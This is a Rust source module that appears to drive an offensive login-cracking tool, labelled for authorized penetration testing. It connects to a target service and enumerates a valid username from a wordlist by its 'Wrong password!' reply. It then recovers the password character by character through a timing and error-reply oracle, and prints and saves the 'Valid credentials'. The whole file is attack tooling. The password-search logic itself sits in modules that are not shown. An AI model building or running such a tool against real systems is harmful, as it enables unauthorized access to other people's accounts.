//! Timing Oracle Login Probe
//!
//! Finds a login name by its "Wrong password!" reply, then grows the password
//! slot by slot using exception replies and slow round-trips as a signal that
//! the prefix is right.
//!
//! For authorized penetration testing only.

use colored::*;
use tracing::error;

use crate::config::ProbeConfig;
use crate::error::{ProbeError, Result};
use crate::modules::creds::connection::Connection;
use crate::modules::creds::login_discovery::find_login_from_file;
use crate::modules::creds::message::LoginAttempt;
use crate::modules::creds::password_search::{find_password, SearchOptions};
use crate::modules::creds::utils::ProbeStats;
use crate::utils::{append_line, display_banner};

/// Connect, discover the login, search the password and disconnect.
///
/// The connection is closed whether or not the search succeeds.
pub async fn probe(config: &ProbeConfig, stats: &mut ProbeStats) -> Result<LoginAttempt> {
    config.validate()?;
    let options = SearchOptions::from_config(config)?;

    let mut connection = Connection::new(config.host.clone(), config.port)
        .with_buffer_size(config.buffer_size)
        .with_thresholds(&config.thresholds);
    connection.connect().await?;

    let outcome = async {
        let login = find_login_from_file(
            &mut connection,
            &config.logins_path,
            &config.sentinels.wrong_password,
            stats,
        )
        .await?;
        let password =
            find_password(&mut connection, &login, &config.search_mode, &options, stats).await?;
        Ok::<_, ProbeError>(LoginAttempt::new(login, password))
    }
    .await;

    stats.set_backoffs(connection.backoffs());
    if let Err(e) = connection.disconnect().await {
        error!("Failed to close connection to {}: {}", connection.address(), e);
    }
    outcome
}

/// Entry point used by the CLI: prints progress, the result line and stats.
/// On failure the error is returned unprinted.
pub async fn run(config: &ProbeConfig) -> Result<()> {
    display_banner();
    println!("{}", format!("[*] Target: {}:{}", config.host, config.port).cyan());
    println!("{}", format!("[*] Login list: {}", config.logins_path.display()).cyan());
    println!("{}", format!("[*] Search mode: {:?}", config.search_mode).cyan());
    println!();

    let mut stats = ProbeStats::new();
    let result = probe(config, &mut stats).await;

    if let Ok(found) = &result {
        let line = serde_json::to_string(found)?;
        println!("{}", line);
        let summary = format!("[+] Valid credentials: {}:{}", found.login, found.password);
        println!("{}", summary.green());
        if let Some(path) = &config.output {
            append_line(path, &line)?;
            println!("{}", format!("[+] Saved to: {}", path.display()).green());
        }
    }

    stats.print_final();
    result.map(|_| ())
}
